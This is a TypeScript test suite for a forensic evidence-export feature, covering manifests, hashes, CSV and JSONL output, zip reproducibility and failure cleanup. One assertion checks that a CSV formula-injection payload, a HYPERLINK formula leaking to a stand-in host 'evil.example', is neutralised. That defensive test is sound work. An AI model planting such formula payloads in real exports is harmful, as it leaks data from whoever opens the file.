import assert from 'node:assert/strict';
import { foldersOfLocations } from '../../src/model/folders.js';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import {
  CSV_COLUMNS,
  exportEvidence,
  openDirSink,
  openZipSink,
  verifyExport,
  type EvidenceExportOptions,
  type ExportManifest,
} from '../../src/export/index.js';
import type { Store } from '../../src/store/index.js';
import { listItemAttachments, openStore } from '../../src/store/index.js';
import { exact } from '../store/store-fixtures.js';
import { exportFixture, PDF, writeFixture, type Fixture } from './export-fixtures.js';

const sha = (b: Uint8Array): string => createHash('sha256').update(b).digest('hex');

void describe('Export - evidence export of a store', () => {
  let dir: string;
  let store: Store;
  let fixture: Fixture;
  const options = (created = '2026-11-26T10:00:00.000Z'): EvidenceExportOptions => ({
    queryText: '',
    innsynVersion: '0.1.0-test',
    itemDocumentVersion: 1,
    created: new Date(created),
    database: { path: '/cases/test.db', items: 7, sources: 0 },
    spoolDir: dir,
  });
  const toDir = async (name: string) =>
    exportEvidence(store, null, await openDirSink(path.join(dir, name)), options());

  before(async () => {
    dir = mkdtempSync(path.join(tmpdir(), 'innsyn-export-'));
    store = await openStore(path.join(dir, 'case.db'));
    fixture = exportFixture();
    await writeFixture(store, fixture);
  });
  after(async () => {
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  });

  void test('Export - every item, its original bytes, each attachment once, items.csv, items.jsonl and the manifest', async () => {
    const report = await toDir('all');
    const root = path.join(dir, 'all');
    const manifest = JSON.parse(readFileSync(path.join(root, 'manifest.json'), 'utf8')) as ExportManifest;
    const ids = fixture.ids as Record<string, string>;

    // Date order, the two items of one moment by id, undated last.
    assert.deepEqual(
      manifest.items.map((i) => i.id),
      [ids.pdfFirst, ids.pdfSecond, ids.dm, ids.formulaPost, ids.tampered, ids.lostAttachment, ids.undated],
    );
    assert.ok((ids.pdfFirst as string) < (ids.pdfSecond as string));

    // Original bytes with a fitting extension, exactly as stored.
    const ext = (id: string | undefined) =>
      manifest.items
        .find((i) => i.id === id)
        ?.file?.split('.')
        .pop();
    assert.equal(ext(ids.pdfFirst), 'eml');
    assert.equal(ext(ids.dm), 'json');
    assert.equal(ext(ids.formulaPost), 'csv');
    for (const { item, raw } of fixture.all) {
      const entry = manifest.items.find((i) => i.id === item.id);
      assert.ok(entry?.file);
      assert.deepEqual(readFileSync(path.join(root, entry.file)), Buffer.from(raw));
      assert.equal(entry.sha256, sha(raw));
      assert.deepEqual(entry.locations, await store.getLocations(item.id));
    }

    // The PDF once, under its hash and the first name met, made safe.
    const attachments = readdirSync(path.join(root, 'attachments'));
    assert.deepEqual(attachments, [`${sha(PDF)}-evilfdp.exe`]);
    assert.deepEqual(readFileSync(path.join(root, 'attachments', attachments[0] as string)), PDF);
    const second = manifest.items.find((i) => i.id === ids.pdfSecond);
    assert.deepEqual(second?.attachments, [
      { sha256: sha(PDF), name: 'copy.pdf', file: `attachments/${attachments[0]}` },
    ]);
    const dm = manifest.items.find((i) => i.id === ids.dm);
    assert.equal(dm?.attachments[0]?.file, null);
    assert.match(dm?.attachments[0]?.unavailable ?? '', /only its hash/);

    // Problems are reported and the rest is exported.
    assert.deepEqual(
      manifest.problems.map((p) => [p.item, p.code]),
      [
        [ids.tampered, 'raw-hash-mismatch'],
        [ids.lostAttachment, 'attachment-not-found'],
      ],
    );
    assert.deepEqual(report.problems, manifest.problems);
    assert.deepEqual(manifest.counts, {
      items: 7,
      files: 10, // 7 items, 1 attachment, items.csv, items.jsonl
      bytes: manifest.files.reduce((n, f) => n + f.size, 0),
      attachments: 1,
      attachmentsUnavailable: 2,
      problems: 2,
    });
    assert.equal(manifest.format, 'innsyn-evidence-export');
    assert.equal(manifest.created, '2026-11-26T10:00:00.000Z');
    assert.equal(manifest.query, '');
    assert.deepEqual(manifest.database, { path: '/cases/test.db', items: 7, sources: 0 });

    // Every file listed with its real size and hash; the manifest's own hash is the report's.
    for (const f of manifest.files) {
      const bytes = readFileSync(path.join(root, f.path));
      assert.deepEqual([f.size, f.sha256], [bytes.length, sha(bytes)], f.path);
    }
    assert.equal(report.manifest.sha256, sha(readFileSync(path.join(root, 'manifest.json'))));
  });

  void test('Export - items.csv: a header and a row per item, formulas guarded; items.jsonl: the show documents', async () => {
    const root = path.join(dir, 'all');
    const csv = readFileSync(path.join(root, 'items.csv'), 'utf8');
    assert.ok(csv.startsWith('\ufeffid,kind,platform,'));
    const rows = csv.slice(1).trimEnd().split('\r\n');
    assert.equal(rows[0], CSV_COLUMNS.join(','));
    assert.equal(rows.length, 1 + fixture.all.length);
    const post = rows.find((r) => r.startsWith(fixture.ids.formulaPost as string));
    assert.ok(post?.includes(`"'=HYPERLINK(""http://evil.example/?leak"")"`), post);
    assert.ok(post?.endsWith(',/cases/posts.csv,,80,100,1,/cases'), post);

    const lines = readFileSync(path.join(root, 'items.jsonl'), 'utf8').trimEnd().split('\n');
    assert.equal(lines.length, fixture.all.length);
    for (const line of lines) {
      const doc = JSON.parse(line) as { version: number; item: { id: string } };
      assert.equal(doc.version, 1);
      const item = await store.getItem(doc.item.id);
      assert.ok(item);
      // The document of `innsyn show --json`: with the attachments as the store lists them.
      const locations = await store.getLocations(doc.item.id);
      assert.deepEqual(doc, {
        version: 1,
        item,
        locations,
        folders: foldersOfLocations(locations),
        attachments: await listItemAttachments(store, item),
      });
    }
  });

  void test('Export - a query exports only its matches', async () => {
    const report = await exportEvidence(
      store,
      exact('kind', 'message'),
      await openDirSink(path.join(dir, 'dm-only')),
      { ...options(), queryText: 'kind:message' },
    );
    assert.equal(report.counts.items, 1);
    assert.deepEqual(readdirSync(path.join(dir, 'dm-only', 'items')), [`${fixture.ids.dm}.json`]);
  });

  void test('Export - a zip holds the same files; verify finds the folder and the zip intact', async () => {
    const zip = path.join(dir, 'all.zip');
    const report = await exportEvidence(store, null, await openZipSink(zip), options());
    assert.equal(report.container, 'zip');
    for (const target of [path.join(dir, 'all'), zip]) {
      const v = await verifyExport(target);
      assert.equal(v.ok, true, JSON.stringify(v, null, 1));
      assert.equal(v.files, 10);
      assert.equal(v.intact, 10);
    }
    assert.equal((await verifyExport(zip)).manifest.sha256, report.manifest.sha256);
    assert.deepEqual(
      readdirSync(dir).filter((f) => f.includes('partial') || f.startsWith('.innsyn-export-')),
      [],
      'no temporary files left behind',
    );
  });

  void test('Export - zips of the same query are the same bytes; another created time changes only those bytes', async () => {
    const a = path.join(dir, 'a.zip');
    const b = path.join(dir, 'b.zip');
    const c = path.join(dir, 'c.zip');
    await exportEvidence(store, null, await openZipSink(a), options());
    await exportEvidence(store, null, await openZipSink(b), options());
    await exportEvidence(store, null, await openZipSink(c), options('2027-01-02T03:04:05.678Z'));
    const [za, zb, zc] = [a, b, c].map((f) => readFileSync(f));
    assert.deepEqual(za, zb);
    assert.equal(za?.length, zc?.length);
    let differing = 0;
    for (let i = 0; i < (za as Buffer).length; i++) if (za?.[i] !== zc?.[i]) differing++;
    // The changed digits of the time, and the manifest's CRC-32 in its data descriptor and directory entry.
    assert.ok(differing > 0 && differing <= 24 + 8, `${differing} bytes differ`);
  });

  void test('Export - an existing zip or a non-empty folder is never written over', async () => {
    const zip = path.join(dir, 'exists.zip');
    writeFileSync(zip, 'mine');
    await assert.rejects(openZipSink(zip), /already exists/);
    assert.equal(readFileSync(zip, 'utf8'), 'mine');
    mkdirSync(path.join(dir, 'full'));
    writeFileSync(path.join(dir, 'full', 'x'), 'mine');
    await assert.rejects(openDirSink(path.join(dir, 'full')), /not empty/);
  });

  void test('Export - a failure midway leaves no export under the name', async () => {
    const zip = path.join(dir, 'failed.zip');
    const failing: Store = Object.create(store) as Store;
    let reads = 0;
    failing.getRaw = async (id: string) => {
      if (++reads === 3) throw new Error('disk gone');
      return store.getRaw(id);
    };
    await assert.rejects(exportEvidence(failing, null, await openZipSink(zip), options()), /disk gone/);
    assert.deepEqual(
      readdirSync(dir).filter((f) => f.startsWith('failed.zip')),
      [],
    );
    const folder = path.join(dir, 'failed-dir');
    reads = 0;
    await assert.rejects(exportEvidence(failing, null, await openDirSink(folder), options()), /disk gone/);
    assert.deepEqual(
      readdirSync(dir).filter((f) => f.startsWith('failed-dir')),
      [],
    );
  });
});
